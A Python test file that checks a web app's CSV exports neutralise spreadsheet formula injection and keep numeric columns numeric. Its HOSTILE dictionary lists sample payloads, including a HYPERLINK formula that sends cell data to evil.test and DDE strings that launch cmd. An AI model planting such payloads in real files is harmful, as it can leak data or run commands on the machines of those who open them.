"""Every CSV export neutralises what a spreadsheet would run as a formula, and keeps numbers numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

from advocacy.security import FORMULA_STARTS, csv_cell
from tests.reach.conftest import Factory, click, rollup

HOSTILE = {"team": '=HYPERLINK("http://evil.test/?d="&A1,"open")', "person": "@SUM(1+1)*cmd|' /C calc'!A0",
           "talking_point": "+1+cmd|' /C calc'!A0", "other": "-2+3", "tab": "\tlooks empty", "cr": "\rhidden"}
WHEN = dt.datetime(2026, 2, 10, 9, tzinfo=dt.UTC)
RANGE = "from=2026-01-01&to=2026-06-30"


def test_only_text_that_starts_like_a_formula_is_neutralised():
    for text in HOSTILE.values():
        assert csv_cell(text) == "'" + text
    assert csv_cell("Engineering") == "Engineering" and csv_cell("a=b") == "a=b"
    assert csv_cell(-3) == -3 and csv_cell(Decimal("-1.50")) == Decimal("-1.50") and csv_cell(0.0) == 0.0
    assert csv_cell({"note": "=1"}) == '{"note": "=1"}' and csv_cell(["=1"]) == '["=1"]'


def rows_of(answer) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    return list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))


def no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), (column, cell)


def test_the_reach_exports_neutralise_formulas_and_keep_numbers(app, make_user, browser_factory, client):
    factory = Factory(make_user)
    team = factory.team(HOSTILE["team"])
    person = make_user("eve@acme.test", name=HOSTILE["person"], team=team)
    share = factory.share(person, factory.talking_point(HOSTILE["talking_point"]), published=WHEN, followers=1200)
    click(client, share, ip="198.51.100.1")
    click(client, share, ip="198.51.100.2")
    rollup()
    make_user("mia@acme.test", "analyst")
    analyst = browser_factory("mia@acme.test")

    for group in ("team", "person", "talking_point"):
        rows = rows_of(analyst.get(f"/reach/export.csv?group={group}&{RANGE}", buffered=True))
        no_formula(rows)
        assert rows[0]["label"] == "'" + HOSTILE[group]
        assert (rows[0]["shares"], rows[0]["unique_clicks"], rows[0]["potential_reach_estimated"]) == ("1", "2", "1200")
        Decimal(rows[0]["emv_estimated"])  # still a number

    shares = rows_of(analyst.get(f"/reach/shares.csv?{RANGE}", buffered=True))
    no_formula(shares)
    assert (shares[0]["team"], shares[0]["person"], shares[0]["talking_point"]) == tuple(
        "'" + HOSTILE[k] for k in ("team", "person", "talking_point"))
    assert shares[0]["unique_clicks"] == "2" and int(shares[0]["share_id"]) == share.id


def test_the_audit_export_uses_the_same_rule(app, make_user):
    from advocacy.audit.services import to_csv

    out = to_csv([{"actor": HOSTILE["person"], "count": -4, "detail": {"name": "=1"}}])
    row = next(csv.DictReader(io.StringIO(out)))
    assert row == {"actor": "'" + HOSTILE["person"], "count": "-4", "detail": '{"name": "=1"}'}
